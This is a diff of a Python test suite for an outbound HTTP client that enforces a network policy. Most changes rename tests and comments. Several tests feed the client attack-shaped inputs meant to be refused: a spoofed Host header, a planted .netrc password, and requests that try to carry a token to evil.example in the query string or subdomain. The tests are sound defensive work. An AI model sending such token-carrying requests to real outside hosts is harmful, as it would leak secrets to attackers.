@@ -27,7 +27,7 @@ def client(site, names) -> SafeClient:
     return SafeClient(site.policy(), names)
 
 
-# The seed's integration tests, by name.
+# What the policy refuses.
 
 
 def test_rejects_private_ip_direct():
@@ -65,7 +65,7 @@ def test_rejects_oversized_request_body(site, names):
     assert site.seen == []
 
 
-# The seed's JavaScript tests, against a loopback server.
+# What is fetched from a loopback server.
 
 
 def test_an_allowed_url_is_fetched(client: SafeClient, site):
@@ -93,7 +93,7 @@ def test_every_final_status_is_a_response(client: SafeClient, site, status: int)
     assert response.ok == (status < 300)
 
 
-def test_f8_repeated_response_headers_arrive_apart(client: SafeClient, site):
+def test_repeated_response_headers_arrive_apart(client: SafeClient, site):
     site.routes["/c"] = site.reply(200, b"", "Set-Cookie: a=1", "Set-Cookie: b=2")
     values = [value for name, value in client.fetch(site.url("/c")).headers if name.lower() == "set-cookie"]
     assert values == ["a=1", "b=2"]
@@ -129,10 +129,10 @@ def test_fetch_works_inside_a_running_event_loop(client: SafeClient, site):
     assert asyncio.run(main()) == 200
 
 
-# Defects of the seed's client, by row.
+# Bounds, headers, redirects and errors.
 
 
-def test_f1_a_chunked_body_is_cut_off_while_it_is_read(start_server: Callable[..., object], site, names):
+def test_a_chunked_body_is_cut_off_while_it_is_read(start_server: Callable[..., object], site, names):
     sent = []
 
     def endless(connection: socket.socket) -> None:
@@ -149,19 +149,19 @@ def test_f1_a_chunked_body_is_cut_off_while_it_is_read(start_server: Callable[..
     assert refused(client, f"http://site.test:{server.port}/") == "response_body_too_large"
 
 
-def test_f1_a_declared_length_over_the_limit_is_not_read_at_all(site, names):
+def test_a_declared_length_over_the_limit_is_not_read_at_all(site, names):
     site.routes["/big"] = b"HTTP/1.1 200 OK\r\nContent-Length: 999999999\r\n\r\n"
     client = SafeClient(site.policy(max_response_body_bytes=1000), names)
     assert refused(client, site.url("/big")) == "response_body_too_large"
 
 
-def test_f1_a_body_of_exactly_the_limit_passes(site, names):
+def test_a_body_of_exactly_the_limit_passes(site, names):
     site.routes["/fits"] = site.reply(200, b"x" * 1000)
     client = SafeClient(site.policy(max_response_body_bytes=1000), names)
     assert len(client.fetch(site.url("/fits")).body) == 1000
 
 
-def test_f2_the_host_header_is_the_urls_whatever_the_guest_says(client: SafeClient, site):
+def test_the_host_header_is_the_urls_whatever_the_guest_says(client: SafeClient, site):
     headers = {"Host": "evil.example", "Proxy-Authorization": "Basic x", "Connection": "keep-alive", "X-Ok": "1"}
     client.fetch(FetchRequest(url=site.url(), headers=headers))
     seen = site.seen[0]
@@ -171,13 +171,13 @@ def test_f2_the_host_header_is_the_urls_whatever_the_guest_says(client: SafeClie
     assert seen.all("x-ok") == ["1"]
 
 
-def test_f3_proxies_of_the_environment_are_not_used(client: SafeClient, site, monkeypatch: pytest.MonkeyPatch):
+def test_proxies_of_the_environment_are_not_used(client: SafeClient, site, monkeypatch: pytest.MonkeyPatch):
     for name in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
         monkeypatch.setenv(name, "http://127.0.0.1:1")
     assert client.fetch(site.url()).body == b"hello"
 
 
-def test_f4_307_repeats_the_post_with_its_body(client: SafeClient, site):
+def test_307_repeats_the_post_with_its_body(client: SafeClient, site):
     site.routes["/go"] = site.reply(307, b"", "Location: /there")
     site.routes["/there"] = lambda seen: site.reply(200, seen.line.encode() + b" " + seen.body)
     response = client.fetch(FetchRequest(url=site.url("/go"), method="POST", body=b"data"))
@@ -186,7 +186,7 @@ def test_f4_307_repeats_the_post_with_its_body(client: SafeClient, site):
     assert response.url == site.url("/there")
 
 
-def test_f4_each_hop_counts_against_the_rate(site, names):
+def test_each_hop_counts_against_the_rate(site, names):
     site.routes["/a"] = site.reply(302, b"", "Location: /b")
     site.routes["/b"] = site.reply(302, b"", "Location: /")
     client = SafeClient(site.policy(max_requests_per_minute=2), names)
@@ -194,7 +194,7 @@ def test_f4_each_hop_counts_against_the_rate(site, names):
     assert len(site.seen) == 2
 
 
-def test_f4_the_time_limit_is_for_all_hops_together(site, names):
+def test_the_time_limit_is_for_all_hops_together(site, names):
     gate = threading.Event()
 
     def slow(seen: object) -> bytes:
@@ -227,7 +227,7 @@ def test_a_server_that_drips_bytes_for_ever_meets_the_total_time(start_server, s
         gate.set()
 
 
-def test_f6_an_ipv6_literal_is_fetched(cleanup, names):
+def test_an_ipv6_literal_is_fetched(cleanup, names):
     listener = socket.create_server(("::1", 0), family=socket.AF_INET6)
     cleanup.callback(listener.close)
     port = listener.getsockname()[1]
@@ -245,14 +245,14 @@ def test_f6_an_ipv6_literal_is_fetched(cleanup, names):
     assert f"Host: [::1]:{port}\r\n".encode() in heads[0]
 
 
-def test_f7_a_refused_connection_is_not_called_a_timeout(site, names):
+def test_a_refused_connection_is_not_called_a_timeout(site, names):
     with socket.create_server(("127.0.0.1", 0)) as unused:
         port = unused.getsockname()[1]
     policy = site.policy(allowed_domains=(f"site.test:{port}",))
     assert refused(SafeClient(policy, names), f"http://site.test:{port}/") == "connection_failed"
 
 
-def test_f7_a_failed_tls_handshake_is_a_failed_connection(start_server, site, names):
+def test_a_failed_tls_handshake_is_a_failed_connection(start_server, site, names):
     def not_tls(connection: socket.socket) -> None:
         connection.recv(65536)
         connection.sendall(b"HTTP/1.1 400 speak plainly\r\n\r\n")
@@ -262,6 +262,7 @@ def test_f7_a_failed_tls_handshake_is_a_failed_connection(start_server, site, na
     assert refused(SafeClient(policy, names), f"https://site.test:{server.port}/") == "connection_failed"
 
 
+@pytest.mark.slow
 def test_a_server_that_never_ends_its_handshake_is_a_connection_timeout(start_server, site, names):
     gate = threading.Event()
     server = start_server(lambda connection: gate.wait(20))
@@ -272,7 +273,7 @@ def test_a_server_that_never_ends_its_handshake_is_a_connection_timeout(start_se
         gate.set()
 
 
-def test_f8_every_decision_is_in_the_audit_log(site, names):
+def test_every_decision_is_in_the_audit_log(site, names):
     records: list[AuditRecord] = []
     client = SafeClient(site.policy(), names, records.append)
     client.fetch(site.url("/?token=secret"))
@@ -429,7 +430,7 @@ def test_a_certificate_for_another_name_is_refused(tls_site, names, authority):
 
 
 @pytest.mark.attack("N11", "network")
-def test_n11_nothing_is_added_that_could_be_a_secret(client: SafeClient, site, monkeypatch, tmp_path):
+def test_nothing_is_added_that_could_be_a_secret(client: SafeClient, site, monkeypatch, tmp_path):
     netrc = tmp_path / ".netrc"
     netrc.write_text("machine site.test login me password secret\n")
     netrc.chmod(0o600)
@@ -443,7 +444,7 @@ def test_n11_nothing_is_added_that_could_be_a_secret(client: SafeClient, site, m
 
 
 @pytest.mark.attack("N11", "network")
-def test_n11_a_placeholder_reaches_no_host_that_is_not_allowed_in_url_header_or_body(client: SafeClient, site, names):
+def test_a_placeholder_reaches_no_host_that_is_not_allowed_in_url_header_or_body(client: SafeClient, site, names):
     for request in (
         FetchRequest(url="https://evil.example/?t=PLACEHOLDER"),
         FetchRequest(url="https://PLACEHOLDER.evil.example/"),
@@ -455,7 +456,7 @@ def test_n11_a_placeholder_reaches_no_host_that_is_not_allowed_in_url_header_or_
     assert site.seen == []
 
 
-def test_names_that_one_client_waits_for_held_up_the_lookups_of_all_others(site, names):
+def test_names_that_one_client_waits_for_do_not_hold_up_the_lookups_of_others(site, names):
     hanging, release = threading.Semaphore(0), threading.Event()
 
     def hangs(host: str, port: int) -> list[str]:
